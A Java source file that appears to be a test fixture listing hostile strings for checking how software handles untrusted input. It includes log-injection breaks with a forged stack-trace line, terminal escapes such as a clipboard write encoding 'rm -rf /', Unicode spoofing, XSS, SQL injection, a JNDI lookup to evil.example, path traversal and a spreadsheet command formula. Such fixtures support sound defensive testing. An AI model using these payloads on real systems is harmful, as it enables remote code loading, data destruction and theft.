package com.acme.hostile;

import java.util.ArrayList;
import java.util.List;
import java.util.stream.IntStream;

/**
 * Names and messages that somebody may have chosen to do harm.
 */
final class HostileText {

	/** What a line of a stack trace would look like. */
	static final String FORGED = "    at com.acme.Forged.line(Forged.java:1)";

	private static final List<String> BREAKS = List.of("\n", "\r\n", "\r", "\u0085", "\u2028", "\u2029", "\u000B",
			"\f");

	private static final List<String> TERMINAL = List.of("\u001B[2J\u001B[H", "\u001B]52;c;cm0gLXJmIC8=\u0007",
			"\u001B]8;;https://evil.example\u001B\\click\u001B]8;;\u001B\\", "\u009B31m", "\u001B[31;1mred\u001B[0m",
			"\u001Bc", "\u0007", "\b\b\b\b\b", "\u007F\u007F", "\u0000", "a\u0000b", "\u001B]0;title\u0007", "\u0090q");

	private static final List<String> UNICODE = List.of("\u202Egnp.exe", "\u2066\u2067\u2068evil\u2069", "\u200F\u200E",
			"\u200B\u200C\u200D", "\uFEFFbom", "\uD800", "\uDC00", "a\uD83D", "\uDE00b", "\uD83D\uDE00", "\uFFFE\uFFFF",
			"Z\u0351\u036B\u0343\u036A", "\u00AD\u00AD", "\uDB40\uDC41\uDB40\uDC42", "\u3164\u1160", "\u0130\u0131");

	private static final List<String> MARKUP = List.of("<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>",
			"</pre><h1>", "&lt;b&gt;", "]]>", "<!--", "javascript:alert(1)", "'; DROP TABLE tasks; --", "\"", "\\",
			"\\\"", "\\u0022,\"forged\":\"", "\"}],\"tasks\":[]}", "{\"id\":1}", "null", "", " ", "\t");

	private static final List<String> TEMPLATES = List.of("${jndi:ldap://evil.example/a}", "#{T(java.lang.Runtime)}",
			"%s%n%d%x", "{}", "{0}{1}", "$1", "../../etc/passwd", "=cmd|' /C calc'!A0");

	private HostileText() {
	}

	/** All of them, each a different one, and those that end a line with what comes. */
	static List<String> all() {
		List<String> all = new ArrayList<>();
		BREAKS.forEach((end) -> all.add("evil" + end + FORGED));
		all.addAll(TERMINAL);
		all.addAll(UNICODE);
		all.addAll(MARKUP);
		all.addAll(TEMPLATES);
		all.add("x".repeat(4 << 20));
		all.add("\u001B\n".repeat(1 << 20));
		return IntStream.range(0, all.size()).mapToObj((i) -> i + "|" + all.get(i)).toList();
	}

}
